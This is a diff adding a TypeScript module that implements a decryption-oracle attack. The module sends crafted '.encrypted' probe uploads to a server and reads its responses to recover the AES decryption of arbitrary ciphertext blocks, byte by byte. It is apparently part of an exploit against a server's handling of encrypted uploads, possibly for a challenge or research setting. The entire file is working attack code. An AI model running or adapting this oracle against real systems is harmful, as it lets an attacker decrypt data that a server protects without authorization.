@@ -1,0 +1,69 @@
+import type { AnswerTable } from "./answer-table.js";
+import type { Ask } from "./ask.js";
+import { blockBytes, type KnownBlock } from "./known-block.js";
+import { probe, viewOf } from "./probe-picture.js";
+
+/**
+ * AES decryption of one block under the server's key of `.encrypted` uploads, by 16 uploads.
+ *
+ * @returns undefined where an answer did not tell: it was a refusal, or encrypted
+ */
+export type DecryptBlock = (target: Buffer) => Promise<Buffer | undefined>;
+
+export interface BlockOracleOptions {
+  ask: Ask;
+  known: KnownBlock;
+  answers: AnswerTable;
+}
+
+const mostFillers = 16;
+
+/**
+ * Looks, with the one block whose decryption is known already, for fillers under which the garbage in the probes holds no
+ * marker. The garbage does not depend on the target, so the same fillers serve for all.
+ *
+ * @returns undefined where the server's answers do not tell the known block
+ */
+export async function findBlockOracle(
+  options: BlockOracleOptions,
+): Promise<DecryptBlock | undefined> {
+  const { ciphertext, decrypted } = options.known;
+  const fillers: number[] = [];
+  for (let index = 0; index < blockBytes; index += 1) {
+    const filler = await firstOf(mostFillers, async (candidate) => {
+      const byte = await decryptByte(options, ciphertext, index, candidate);
+      return byte === decrypted.readUInt8(index);
+    });
+    if (filler === undefined) return undefined;
+    fillers.push(filler);
+  }
+  return async (target) => {
+    const uploads = fillers.map((filler, index) => decryptByte(options, target, index, filler));
+    const bytes = (await Promise.all(uploads)).filter((byte) => byte !== undefined);
+    return bytes.length === blockBytes ? Buffer.from(bytes) : undefined;
+  };
+}
+
+/** One byte of the target's decryption, by one upload. */
+async function decryptByte(
+  { ask, known, answers }: BlockOracleOptions,
+  target: Buffer,
+  index: number,
+  filler: number,
+): Promise<number | undefined> {
+  const view = viewOf(index);
+  const { text } = await ask("probe.jpg.encrypted", probe(known, target, view, filler));
+  const value = answers.find(view.entry, text);
+  return value === undefined ? undefined : value ^ known.ciphertext.readUInt8(index);
+}
+
+/** The first number from 0 on that passes, of so many. */
+async function firstOf(
+  count: number,
+  passes: (candidate: number) => Promise<boolean>,
+): Promise<number | undefined> {
+  for (let candidate = 0; candidate < count; candidate += 1) {
+    if (await passes(candidate)) return candidate;
+  }
+  return undefined;
+}
